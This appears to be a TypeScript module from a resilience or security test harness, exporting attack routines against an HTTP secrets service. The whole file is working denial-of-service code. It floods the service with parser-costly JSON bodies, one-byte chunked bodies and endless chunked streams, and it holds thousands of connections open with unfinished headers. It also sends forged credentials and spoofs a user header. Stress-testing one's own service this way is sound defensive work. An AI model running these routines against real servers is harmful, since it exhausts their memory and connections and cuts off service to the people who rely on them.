import { setTimeout as pause } from 'node:timers/promises';
import {
  AttackConnections,
  FORGED_CREDENTIALS,
  head,
  post,
  type Outcomes,
  type Target,
} from './attack-connection';

/** Nearly the largest bodies that the service accepts: where a value is stored, and elsewhere. */
const LARGE = 3 * 1024 * 1024;
const SMALL = 60 * 1024;

const CREATE = '/CreateSecret?workspace=w';
const NO_CREDENTIALS: Readonly<Record<string, string>> = {};

/** Sends the requests repeatedly, on so many connections at once. */
async function flood(
  target: Target,
  requests: readonly (string | Uint8Array)[],
  atOnce: number,
): Promise<Outcomes> {
  const all = new AttackConnections(target);
  let turn = 0;
  await all.repeat(atOnce, async () => {
    const connection = await all.connect();
    if (connection === undefined) return pause(20);
    const request = requests[turn++ % requests.length] ?? '';
    const outcome = connection.ask(request);
    // The service may answer before it has read all of the body, and close the connection.
    const ended = pause(target.seconds * 1000, 'unanswered', { ref: false });
    if ((await Promise.race([outcome, ended])) === 'unanswered') all.count('unanswered');
    connection.end();
  });
  return all.end();
}

function firstAppOf({ apps: [app] }: Target): {
  readonly path: string;
  readonly headers: typeof NO_CREDENTIALS;
} {
  return { path: `?workspace=${app?.workspace}`, headers: app?.headers ?? NO_CREDENTIALS };
}

/** Bodies whose parsing costs time and memory: nesting, many fields, many numbers. */
const COSTLY = {
  arrays: (bytes: number) => '['.repeat(bytes),
  objects: (bytes: number) => '{"a":'.repeat(Math.floor(bytes / 5)),
  closed: (bytes: number) => '['.repeat(Math.floor(bytes / 2)) + ']'.repeat(Math.floor(bytes / 2)),
  fields: (bytes: number) => `{${Array.from({ length: Math.floor(bytes / 12) }, (_, at) => `"${at.toString(36)}":0`).join(',')}}`, // prettier-ignore
  numbers: (bytes: number) => `{"name":"s","value":[${'1,'.repeat(Math.floor(bytes / 2) - 40)}1]}`,
  escapes: (bytes: number) => `{"name":"s","value":"${'\\u0041'.repeat(Math.floor(bytes / 6) - 10)}"}`,
};

/** 3 MiB of `[` without credentials, five at once. */
export const nestedBodies = (target: Target): Promise<Outcomes> =>
  flood(target, [post(CREATE, NO_CREDENTIALS, COSTLY.arrays(LARGE))], 5);

/** All costly bodies with forged tokens. */
export const costlyBodiesForged = (target: Target): Promise<Outcomes> =>
  flood(
    target,
    Object.values(COSTLY).map((body) => post(CREATE, FORGED_CREDENTIALS, body(LARGE))),
    5,
  );

/** The same in chunks, which announce no length. */
export function costlyBodiesInChunks(target: Target): Promise<Outcomes> {
  const chunked = (body: string): string =>
    `${head('POST', CREATE, { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' })}${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
  return flood(
    target,
    Object.values(COSTLY).map((body) => chunked(body(LARGE))),
    5,
  );
}

/** Bodies in chunks of one byte each, which Node's parser hands over one at a time. */
export const bodiesInSlivers = (target: Target): Promise<Outcomes> =>
  flood(
    target,
    [slivers(CREATE, NO_CREDENTIALS), slivers('/permission/v1alpha1/access', NO_CREDENTIALS)],
    40,
  );

/** The same by an app with valid credentials. */
export function bodiesInSliversOfAnApp(target: Target): Promise<Outcomes> {
  const { path, headers } = firstAppOf(target);
  return flood(target, [slivers(`/CreateSecret${path}`, headers)], 10);
}

/** The same on connections that are opened first and then send all at once what one read brings. */
export const bodiesAtOnce = (target: Target): Promise<Outcomes> =>
  atOnce(target, slivers(CREATE, NO_CREDENTIALS).slice(0, 64 * 1024));

/** Unfinished heads, of which there is no request yet: Node counts neither colons nor ends of lines against its limit. */
export const headsAtOnce = (target: Target): Promise<Outcomes> =>
  atOnce(target, `GET /livez HTTP/1.1\r\nHost: x\r\n${'a:\r\n'.repeat(16_300)}`);

async function atOnce(target: Target, request: string): Promise<Outcomes> {
  const all = new AttackConnections(target);
  while (all.isRunning) {
    const connections = await all.connectMany(1_900);
    for (const connection of connections) void connection.ask(request);
    await pause(300);
    for (const connection of connections) connection.end();
  }
  return all.end();
}

/** Bodies without an end, in chunks that cost the parser more than their sender. */
export async function endlessBodies(target: Target): Promise<Outcomes> {
  const all = new AttackConnections(target);
  const chunks = `50\r\n${'x'.repeat(80)}\r\n`.repeat(800);
  await all.repeat(20, async () => {
    const connection = await all.connect();
    if (connection === undefined) return pause(20);
    connection.expectAnswer();
    await connection.send(head('POST', CREATE, { 'Transfer-Encoding': 'chunked' }));
    while (connection.isOpen && all.isRunning)
      await Promise.race([connection.send(chunks), pause(1_000, undefined, { ref: false })]);
    connection.end();
  });
  return all.end();
}

function slivers(path: string, headers: typeof NO_CREDENTIALS): string {
  const more = { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' };
  return `${head('POST', path, { ...headers, ...more })}${'1\r\na\r\n'.repeat(60_000)}0\r\n\r\n`;
}

/** Costly bodies by an app with valid credentials. */
export function costlyBodiesOfAnApp(target: Target): Promise<Outcomes> {
  const { path, headers } = firstAppOf(target);
  return flood(
    target,
    Object.values(COSTLY).map((body) => post(`/CreateSecret${path}`, headers, body(LARGE))),
    5,
  );
}

/** Small costly bodies to the operations that store nothing, without credentials and by an app. */
export function costlySmallBodies(target: Target): Promise<Outcomes> {
  const { path, headers } = firstAppOf(target);
  const requests = ['RetrieveSecret', 'ListSecret', 'DeleteSecret'].flatMap((op) =>
    [NO_CREDENTIALS, headers].flatMap((credentials) => [
      post(`/${op}${path}`, credentials, '['.repeat(5_000)),
      post(`/${op}${path}`, credentials, `{"env":${'['.repeat(5_000)}${']'.repeat(5_000)}}`),
      ...Object.values(COSTLY).map((body) => post(`/${op}${path}`, credentials, body(SMALL))),
    ]),
  );
  return flood(target, requests, 8);
}

/** The same to the public routes, and as bodies of a ProxyRequest. */
export function costlyPublicBodies(target: Target): Promise<Outcomes> {
  const paths = ['/permission/v1alpha1/access', '/user/create', '/user/delete', '/nothing'];
  const proxied = (body: string) => `{"appkey":"k","op":"RetrieveSecret","data":${body}}`;
  const requests = paths.flatMap((path) =>
    Object.values(COSTLY).map((body) => post(path, NO_CREDENTIALS, body(SMALL))),
  );
  const asSystemServer = [COSTLY.closed(LARGE - 100), COSTLY.fields(LARGE - 100)].map((body) =>
    post('/CreateSecret', { 'X-BFL-USER': 'alice' }, proxied(body)),
  );
  return flood(target, [...requests, ...asSystemServer], 5);
}

/** Bodies to methods and routes that take none, and with `Expect: 100-continue`. */
export function bodiesWhereNoneBelongs(target: Target): Promise<Outcomes> {
  const body = '['.repeat(LARGE);
  const headers = { 'Content-Type': 'application/json', 'Content-Length': body.length };
  const requests = ['GET', 'HEAD', 'OPTIONS', 'PUT', 'DELETE'].flatMap((method) =>
    ['/livez', '/readyz', CREATE].map((path) => head(method, path, headers) + body),
  );
  const expecting = head('POST', CREATE, { ...headers, Expect: '100-continue' }) + body;
  return flood(target, [...requests, expecting], 5);
}
